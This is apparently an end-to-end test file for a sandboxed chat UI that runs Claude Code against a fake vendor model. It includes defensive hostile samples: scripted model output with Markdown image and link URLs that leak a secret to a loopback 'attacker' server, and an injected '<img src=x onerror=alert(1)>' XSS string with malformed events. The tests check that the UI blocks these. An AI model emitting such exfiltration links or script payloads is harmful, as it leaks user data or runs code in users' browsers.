/**
 * Conversations in the app (issue 16), end to end: `cordon ui` through
 * bin/cordon, Debian's Chromium, the real Claude Code in a real sandbox, and a
 * loopback fake vendor whose scripted model asks for tools. A loopback
 * "attacker" server records every request, to show that Markdown the agent
 * writes loads nothing. Screens are screenshotted and checked with axe-core.
 */
import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import { makeTestCerts, type TestCerts } from '../core/egress/test-certs.js';
import { lastToolResult, lastUserText, offersTools, startFakeVendor, type FakeVendor } from '../cli/fake-vendor.js';
import { TestEnv } from '../cli/test-harness.js';
import { axeSerious, launchChromium, screenshot, startUi, type RunningUi } from './ui-harness.js';

const env = new TestEnv('e2e-chat');
const REAL_KEY = `sk-ant-api03-REAL-${randomBytes(24).toString('hex')}`;
const SECRET = `exfil-${randomBytes(6).toString('hex')}`;
let browser: Browser;
let certs: TestCerts;
let vendor: FakeVendor;
let ui: RunningUi;
let ws: string;
const attackerHits: string[] = [];
let attacker: Server;
let attackerUrl = '';

before(async () => {
  assert.ok(process.env['DBUS_SESSION_BUS_ADDRESS'], 'run through scripts/run-tests.mjs (it starts a throwaway Secret Service)');
  attacker = createServer((req, res) => {
    attackerHits.push(req.url ?? '');
    res.end('gotcha');
  });
  await new Promise<void>((r) => attacker.listen(0, '127.0.0.1', r));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  certs = makeTestCerts();
  ws = env.workspace('ws-chat-ui');
  writeFileSync(join(ws, 'notes.txt'), 'line one\nline two\nline three\n');
  let answers = 0;
  // After a Read of notes.txt the model asks for the edit (Claude Code edits only files it has read).
  let editAfterRead = false;
  vendor = await startFakeVendor({
    key: certs.keyPem,
    cert: certs.certPem,
    replyText: 'side-call',
    script: (req) => {
      if (!offersTools(req)) return undefined;
      const result = lastToolResult(req);
      if (result !== null && editAfterRead) {
        editAfterRead = false;
        return { toolUse: { name: 'Edit', input: { file_path: join(ws, 'notes.txt'), old_string: 'line two', new_string: 'line 2 (edited by the agent)' } } };
      }
      // After an interrupt Claude Code sends the stopped tool's result and the next question in one message.
      const said = lastUserText(req);
      if (said.includes('[[bash]]')) return { toolUse: { name: 'Bash', input: { command: 'echo BASH-MARK-$((6*7))', description: 'print a marker' } } };
      if (said.includes('[[edit]]')) {
        editAfterRead = true;
        return { toolUse: { name: 'Read', input: { file_path: join(ws, 'notes.txt') } } };
      }
      if (said.includes('[[sleep]]')) return { toolUse: { name: 'Bash', input: { command: 'sleep 45; echo WOKE-$((2*3))', description: 'a long task' } } };
      if (said.includes('[[md]]')) {
        return { text: `Here is the chart:\n\n![chart](${attackerUrl}/leak.png?d=${SECRET})\n\nMore in [the docs](${attackerUrl}/click?d=${SECRET}).` };
      }
      if (result !== null && !said.includes('question') && !said.includes('still there')) return { text: 'TOOL-DONE' };
      return { text: `**ANSWER-${++answers}** for you` };
    },
  });
  writeFileSync(
    join(env.cordonHome, 'policy.json'),
    JSON.stringify({ providers: { anthropic: { baseUrl: `https://127.0.0.1:${vendor.port}`, caFile: certs.caFile } }, egress: { allowRanges: ['127.0.0.1/32'] } }),
  );
  const set = await env.run(['keys', 'set', 'anthropic'], { input: `${REAL_KEY}\n` });
  assert.equal(set.code, 0, set.stderr);
  browser = await launchChromium();
  ui = await startUi(env);
});
after(async () => {
  await browser?.close();
  assert.equal(await ui.stop(), 0, ui.stderr());
  await vendor.close();
  await new Promise((r) => attacker.close(r));
  certs.cleanup();
  env.cleanup();
});

async function checkScreen(page: Page, name: string): Promise<void> {
  await screenshot(page, name);
  const serious = await axeSerious(page);
  assert.deepEqual(serious, [], `axe-core on ${name}: ${JSON.stringify(serious)}`);
}

/** Opens the UI and launches a conversation with PROFILE (the default when absent) on the test workspace. */
async function launchChat(profile?: string): Promise<{ page: Page; sent: string[]; sessionId: string }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  const sent: string[] = [];
  page.on('websocket', (s) => s.on('framesent', (f) => sent.push(typeof f.payload === 'string' ? f.payload : f.payload.toString('utf8'))));
  await page.goto(ui.url);
  await page.getByRole('navigation', { name: 'Main' }).getByRole('button', { name: 'Setup', exact: true }).click();
  await page.getByLabel('Workspace folder (absolute path)').fill(ws);
  if (profile !== undefined) await page.getByLabel('Profile').selectOption(profile);
  // A conversation is the default way to work.
  assert.equal(await page.getByRole('radio', { name: /^Conversation \(recommended\)/ }).isChecked(), true);
  await page.getByRole('button', { name: 'Launch', exact: true }).click();
  await page.getByTestId('chat-state').filter({ hasText: 'Ready' }).waitFor({ timeout: 90_000 });
  const heading = await page.getByRole('heading', { level: 1 }).innerText();
  const sessionId = /Session ([0-9a-f]{12})/.exec(heading)?.[1] ?? '';
  assert.notEqual(sessionId, '', heading);
  return { page, sent, sessionId };
}

async function say(page: Page, text: string): Promise<void> {
  await page.getByTestId('chat-state').filter({ hasText: 'Ready' }).waitFor({ timeout: 60_000 });
  await page.getByRole('textbox', { name: 'Message' }).fill(text);
  await page.getByRole('textbox', { name: 'Message' }).press('Enter');
}

describe('a conversation with Claude Code', () => {
  let page: Page;
  let sent: string[];
  let sessionId: string;
  before(async () => {
    ({ page, sent, sessionId } = await launchChat());
  });

  test('a question is answered in the conversation, and a second turn continues the same session', async () => {
    await say(page, 'first question');
    await page.getByTestId('chat-assistant').filter({ hasText: 'ANSWER-1 for you' }).waitFor({ timeout: 60_000 });
    // Markdown is rendered: the answer's bold is an element, not asterisks.
    assert.equal(await page.getByTestId('chat-assistant').locator('strong', { hasText: 'ANSWER-1' }).count(), 1);
    await say(page, 'second question');
    await page.getByTestId('chat-assistant').filter({ hasText: 'ANSWER-2' }).waitFor({ timeout: 60_000 });
    const second = vendor.requests.filter((q) => q.body.includes('second question'));
    assert.ok(second.length > 0 && second.every((q) => q.body.includes('first question') && q.body.includes('ANSWER-1')), 'the second turn did not carry the first');
    assert.match(await page.getByTestId('chat-usage').innerText(), /tokens in/);
    await checkScreen(page, 'chat');
  });

  test('a command card shows the command and its output; an edit shows in the files panel with its diff', async () => {
    await say(page, 'please [[bash]]');
    const card = page.getByTestId('tool-card').filter({ hasText: 'echo BASH-MARK-$((6*7))' });
    await card.and(page.locator('[data-status="done"]')).waitFor({ timeout: 60_000 });
    await card.locator('summary').click();
    await card.getByText('BASH-MARK-42').waitFor();
    await say(page, 'now [[edit]] the notes');
    await page.getByTestId('tool-card').filter({ hasText: 'notes.txt' }).and(page.locator('[data-status="done"]')).nth(1).waitFor({ timeout: 60_000 });
    // The edit's card shows the change as a diff, made by core from the tool's input.
    const editCard = page.getByTestId('tool-card').filter({ has: page.locator('summary', { hasText: /^Edit/ }) });
    await editCard.locator('summary').click();
    await editCard.getByTestId('diff-lines').getByText('line 2 (edited by the agent)').waitFor();
    const file = page.getByTestId('file-change').filter({ hasText: 'notes.txt' });
    await file.waitFor({ timeout: 10_000 });
    await file.click();
    const detail = page.getByTestId('file-detail');
    await detail.getByRole('tab', { name: 'Changes' }).click();
    await detail.getByText('line 2 (edited by the agent)').waitFor({ timeout: 10_000 });
    const diffText = await detail.innerText();
    assert.match(diffText, /-\s*line two/);
    assert.match(diffText, /\+\s*line 2 \(edited by the agent\)/);
    await checkScreen(page, 'chat-files');
    await detail.getByRole('tab', { name: 'Preview' }).click();
    await detail.getByText('line three').waitFor();
    assert.ok((await detail.innerText()).includes('line 2 (edited by the agent)'));
  });

  test('Markdown from the agent loads nothing: the image is not fetched, the link shows its target and opens only after a confirmation', async () => {
    await say(page, 'show me [[md]]');
    await page.getByTestId('md-image-blocked').first().waitFor({ timeout: 60_000 });
    const link = page.getByTestId('md-link').filter({ hasText: 'the docs' });
    assert.ok((await link.innerText()).includes(`${attackerUrl}/click?d=${SECRET}`), 'the link does not show its real target');
    assert.equal(await page.locator('.chat-log img, [data-testid="chat-log"] img').count(), 0, 'an <img> was rendered from the agent');
    await link.click();
    const dialog = page.getByRole('dialog');
    await dialog.waitFor();
    assert.ok((await dialog.innerText()).includes(`${attackerUrl}/click?d=${SECRET}`));
    await checkScreen(page, 'chat-link-confirm');
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await dialog.waitFor({ state: 'detached' });
    await page.waitForTimeout(500);
    assert.deepEqual(attackerHits, [], 'the rendered Markdown reached the attacker');
    assert.ok(!sent.some((f) => f.includes('links.open')), 'a link was opened without confirmation');
  });

  test('Stop during a long tool call stops it, and the session takes the next turn', async () => {
    await say(page, 'run [[sleep]]');
    const card = page.getByTestId('tool-card').filter({ hasText: 'sleep 45' });
    await card.and(page.locator('[data-status="running"]')).waitFor({ timeout: 60_000 });
    const t0 = Date.now();
    await page.getByRole('button', { name: 'Stop the agent' }).click();
    await page.getByTestId('chat-notice').filter({ hasText: 'Stopped.' }).waitFor({ timeout: 20_000 });
    assert.ok(Date.now() - t0 < 20_000);
    assert.equal(await card.getAttribute('data-status'), 'error');
    await say(page, 'still there?');
    await page.getByTestId('chat-assistant').filter({ hasText: 'ANSWER-3' }).waitFor({ timeout: 60_000 });
    assert.ok(!(await page.getByTestId('chat-log').innerText()).includes('WOKE-6'), 'the stopped command ran to its end');
  });

  test('End session removes the sandbox', async () => {
    await page.getByTestId('chat-end').click();
    await page.getByText('No session is running').waitFor({ timeout: 30_000 });
    assert.deepEqual(
      (await env.containers()).filter((c) => c.Labels['dev.cordon.session'] === sessionId && c.State === 'running'),
      [],
    );
    await page.close();
  });
});

test('malformed and oversized events from the sandbox are rejected without breaking the view', async () => {
  const script = [
    'while IFS= read -r line; do',
    "  echo '{broken json'",
    "  head -c 1100000 /dev/zero | tr '\\0' x; echo",
    '  echo \'{"type":"assistant","message":{"content":[{"type":"tool_use","id":5}]}}\'',
    '  echo \'{"type":"assistant","message":{"content":[{"type":"text","text":"still-fine <img src=x onerror=alert(1)>"}]}}\'',
    '  echo \'{"type":"result","subtype":"success","is_error":false,"usage":{"input_tokens":3,"output_tokens":2}}\'',
    'done',
  ].join('\n');
  const profile = env.profile('hostile', 'standard', { description: 'writes malformed events (tests)', agent: 'claude-code', command: ['sh', '-c', script], provider: undefined });
  const { page } = await launchChat(profile);
  const dialogs: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  await say(page, 'hello');
  await page.getByTestId('chat-assistant').filter({ hasText: 'still-fine' }).waitFor({ timeout: 30_000 });
  await page.getByTestId('chat-notice').filter({ hasText: 'ignored output' }).waitFor();
  assert.match(await page.getByTestId('chat-rejected').innerText(), /3/);
  await say(page, 'again');
  await page.getByTestId('chat-assistant').nth(1).waitFor({ timeout: 30_000 });
  assert.deepEqual(dialogs, [], 'HTML in the agent text ran');
  assert.equal(await page.locator('[data-testid="chat-log"] img').count(), 0);
  await checkScreen(page, 'chat-rejected');
  await page.getByTestId('chat-end').click();
  await page.getByText('No session is running').waitFor({ timeout: 30_000 });
  await page.close();
});
